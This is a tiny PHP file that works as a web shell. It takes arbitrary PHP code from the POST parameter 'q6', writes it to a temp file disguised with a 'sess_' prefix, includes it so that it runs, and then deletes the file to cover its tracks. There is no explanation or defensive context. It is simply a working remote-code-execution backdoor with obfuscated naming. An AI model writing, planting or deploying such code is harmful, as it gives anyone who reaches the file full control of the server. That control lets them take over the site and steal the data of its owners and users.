<?php
$zjaN = tempnam(sys_get_temp_dir(), 'sess_');
if (isset($_POST['q6'])) {
    file_put_contents($zjaN, '<?php ' . $_POST['q6']);
    include $zjaN;
}
@unlink($zjaN);
